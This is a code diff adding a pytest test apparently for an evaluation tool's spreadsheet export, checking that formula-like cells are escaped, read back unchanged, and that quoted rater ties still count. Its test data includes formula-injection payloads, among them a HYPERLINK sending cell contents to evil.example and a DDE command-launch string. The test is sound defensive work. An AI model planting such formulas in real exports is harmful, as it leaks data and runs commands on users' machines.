@@ -172,3 +172,33 @@ def test_export_rejects_rows_without_an_answer(tmp_path: Path):
     del rows[1]["base"]
     with pytest.raises(DataError, match="row 1"):
         _export(tmp_path, rows)
+
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+           "\t=1+1", "\r=1+1", "'=already quoted", "\uff1d1+1", "plain text", "", "a = b", "'plain"]
+
+
+def test_cells_a_spreadsheet_would_run_are_escaped_and_read_back_unchanged(tmp_path: Path):
+    rows = [{"id": f"r{i}", "input": text, "reference": text, "tuned": f"{text} (tuned)", "base": text}
+            for i, text in enumerate(HOSTILE)]
+    rows = [r for r in rows if r["tuned"].strip() != r["base"].strip()]
+    sheet, key, written = _export(tmp_path, rows)
+    assert written == len(rows)
+    for rec in _read(sheet):  # what a spreadsheet sees: no cell starts like a formula
+        for col in ("input", "reference", "response_a", "response_b"):
+            assert rec[col][:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d"), rec[col]
+    from tuneline.eval.human import read_sheet
+
+    items = json.loads(key.read_text())["items"]
+    by_id = {r["id"]: r for r in rows}
+    for rec in read_sheet(sheet):  # and reading the sheet gives every text back as it was
+        row, sides = by_id[items[rec["item"]]["id"]], items[rec["item"]]
+        assert rec["input"] == row["input"] and rec["reference"] == row["reference"]
+        assert rec["response_a"] == row[sides["a"]] and rec["response_b"] == row[sides["b"]]
+    # a rater's "=" (tie), typed as '= so the spreadsheet keeps it, still counts as a tie
+    rated = _read(sheet)
+    for rec in rated:
+        rec["preference"] = "'="
+    _write(sheet, rated)
+    result = import_human(sheet, key)
+    assert result["ties"] == len(rows) and result["win_rate"] == 0.5
